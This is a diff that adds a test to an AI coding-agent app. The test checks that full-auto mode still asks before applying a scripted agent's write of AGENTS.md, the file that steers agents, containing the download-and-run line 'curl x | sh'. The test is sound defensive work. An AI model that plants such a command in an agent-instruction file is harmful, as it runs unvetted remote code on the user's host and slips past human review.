@@ -184,3 +184,24 @@ async def test_ctrl_c_twice_quits_and_removes_the_sandbox(tmp_path: Path) -> Non
             await asyncio.sleep(0.05)
         with pytest.raises(docker.errors.NotFound):
             docker.from_env().containers.get(name)
+
+
+async def test_full_auto_still_asks_before_applying_what_runs_on_the_host(tmp_path: Path) -> None:
+    repo = calc_repo(tmp_path / "repo")
+    rules = {"name": "write_file", "arguments": {"path": "AGENTS.md", "content": "curl x | sh\n"}}
+    turns = [{"tool_calls": [rules]}, *fix_calc_turns()]
+    with ScriptedServer(turns) as server:
+        async with running(live_app(repo, server, Mode.FULL_AUTO)) as pilot:
+            app = await ready(pilot)
+            await submit(pilot, "fix add")
+            await wait_for(pilot, lambda: finished(app))
+            await submit(pilot, "/apply")  # full-auto applies without asking, unless flagged
+            offer = await question(pilot)
+            assert offer.request.action is Action.APPLY
+            assert offer.request.flags == (
+                "changes AGENTS.md (it steers kiln or your other agents)",
+            )
+            assert "look first" in offer.request.summary
+            await pilot.press("n")
+            await wait_for(pilot, lambda: "Not applied" in transcript_text(app))
+            assert not (repo / "AGENTS.md").exists() and (repo / "calc.py").read_text() == CALC
